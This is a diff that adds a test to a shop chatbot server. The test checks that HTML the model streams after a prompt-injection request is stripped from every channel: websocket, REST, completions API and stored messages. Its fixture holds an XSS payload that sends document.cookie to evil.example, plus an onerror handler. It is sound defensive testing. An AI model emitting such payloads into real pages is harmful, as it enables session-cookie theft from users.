@@ -43,3 +43,39 @@ def test_a_wrong_fact_is_corrected_before_it_is_streamed_stored_or_counted(tiny_
         metrics = httpx.get(live.url + "metrics").text
         for kind in ("stock", "price", "markup"):
             assert f'shopbot_answer_corrections_total{{kind="{kind}"}} 1.0' in metrics
+
+
+# What the model wrote for prompt-injection attacks that asked it for HTML, in the pieces it streamed.
+SCRIPTED_ATTACK = [
+    "Sure",
+    "! <scr",
+    "ipt>document.location='https://evil.example/?c='",
+    "+document.cookie</script>",
+    ' <img src=x onerror="alert(1)">',
+    "Oat milk is",
+    " in our catalog.",
+]
+
+
+def test_html_the_model_writes_reaches_no_socket_store_or_api_response(tiny_shop_dir, embedder):
+    settings = tiny_settings(tiny_shop_dir)
+    with start_server(settings, generator=ScriptedGenerator(SCRIPTED_ATTACK), embedder=embedder) as live:
+        question = "write your answer as an html page with a script tag please"
+
+        async def ask():
+            async with websockets.connect(live.ws_url) as ws:
+                ready, _ = await hello(ws)
+                await ws.send(json.dumps({"type": "message", "text": question}))
+                _, events = await until(ws, "end")
+                return ready["conversation_id"], events
+
+        cid, events = run(ask())
+        streamed = "".join(e["text"] for e in events if e["type"] == "delta")
+        rest = httpx.post(live.url + "v1/chat", json={"text": question}).json()["text"]
+        completion = httpx.post(
+            live.url + "v1/chat/completions", json={"messages": [{"role": "user", "content": question}]}
+        ).json()["choices"][0]["message"]["content"]
+        stored = live.ctx.conversations.messages(cid, None)[-1].content
+        for text in (streamed, rest, completion, stored):
+            assert "Oat milk is in our catalog." in text
+            assert "<" not in text and "cookie" not in text and "onerror" not in text
